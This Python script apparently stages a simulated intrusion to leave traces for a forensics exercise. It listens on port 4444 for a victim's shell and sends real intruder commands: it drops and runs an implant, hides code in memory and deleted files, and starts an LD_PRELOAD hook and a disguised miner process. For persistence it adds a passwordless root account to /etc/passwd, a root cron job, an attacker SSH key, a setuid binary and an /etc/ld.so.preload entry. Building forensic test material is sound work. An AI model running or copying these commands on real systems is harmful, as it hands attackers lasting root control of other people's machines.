"""Whoever broke in: waits for the victim's shell and types what an intruder would, a step at a time.

What the victim answers is printed; lines `fact NAME PID ADDRESS` say where the traces are.  The environment
has LOOT, which is left in the memory of a process, and MEMORY_ONLY where nothing outside /tmp may be changed.
"""

import base64
import os
import pathlib
import re
import signal
import socket

PORT = 4444
PROGRAMS = pathlib.Path(__file__).parent
DROPPER = "/tmp/.x/dropper"
DELETED = "/var/tmp/updated"
HOOK = "/tmp/.x/libhook.so"
APART = "< /dev/null > /dev/null 2>&1"

ACCOUNT = "toor::0:0::/root:/bin/bash"
CRON = f"* * * * * root {DROPPER} stay cron"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJvVqlUGKnkWuUVn8kYVq3nhb7v2pOvEdtJ2zLQh7cFk intruder"
MINING = "-o stratum+tcp://pool.example:3333 -u wallet"


def upload(program: str, path: str) -> str:
    """Commands that make a file of a program, as a person without scp does."""
    text = base64.encodebytes((PROGRAMS / program).read_bytes()).decode()
    return f"base64 -d > {path} <<'END'\n{text}END\nchmod 755 {path}"


def memory(loot: str) -> list[tuple[str, str]]:
    """What runs, and the word by which it is known to run."""
    return [
        ("echo fact shell $$ 0", "fact shell"),
        (f"mkdir -p /tmp/.x; {upload('implant', DROPPER)}; {DROPPER} stay dropper &", "fact dropper"),
        (f"{DROPPER} memfd &", "fact memfd"),
        (f"mkdir -p /var/tmp; cp {DROPPER} {DELETED}; {DELETED} stay deleted &", "fact deleted"),
        (f"rm {DELETED}; echo gone $?", "gone 0"),
        (f"{DROPPER} loot <<'END' &\n{loot}\nEND", "fact key"),
        (upload("hook.so", HOOK), ""),
        (f"LD_PRELOAD={HOOK} sleep 100000 {APART} & echo fact preload $! 0", "fact preload"),
        (f"(exec -a xmrig {DROPPER} stay miner {MINING}) &", "fact miner"),
    ]


def files() -> list[tuple[str, str]]:
    """What is left behind on disk."""
    return [
        (f"echo '{ACCOUNT}' >> /etc/passwd", ""),
        (f"mkdir -p /etc/cron.d; echo '{CRON}' > /etc/cron.d/sysupdate", ""),
        (f"mkdir -p -m 700 /root/.ssh; echo '{KEY}' >> /root/.ssh/authorized_keys", ""),
        (f"cp {DROPPER} /usr/bin/su-helper; chmod 4755 /usr/bin/su-helper", ""),
        (f"echo {HOOK} > /etc/ld.so.preload", ""),
    ]


def told(connection: socket.socket, *words: str) -> None:
    """Print what the victim answers, up to lines with all of these words."""
    said = b""
    while not all(re.search(rf"{word}.*\n".encode(), said) for word in words):
        block = connection.recv(4096)
        if not block:
            raise SystemExit(f"it hung up before it said {words}: {said!r}")
        said += block
    print(said.decode(errors="replace"), flush=True)


def main() -> None:
    server = socket.create_server(("0.0.0.0", PORT))
    print("listening", flush=True)
    connection, _ = server.accept()
    steps = memory(os.environ["LOOT"]) + ([] if "MEMORY_ONLY" in os.environ else files())
    for number, (commands, word) in enumerate(steps):
        connection.sendall(f"{commands}\necho step $(({number})) over\n".encode())
        told(connection, f"step {number} over", word)
    print("finished", flush=True)
    while True:
        signal.pause()


main()
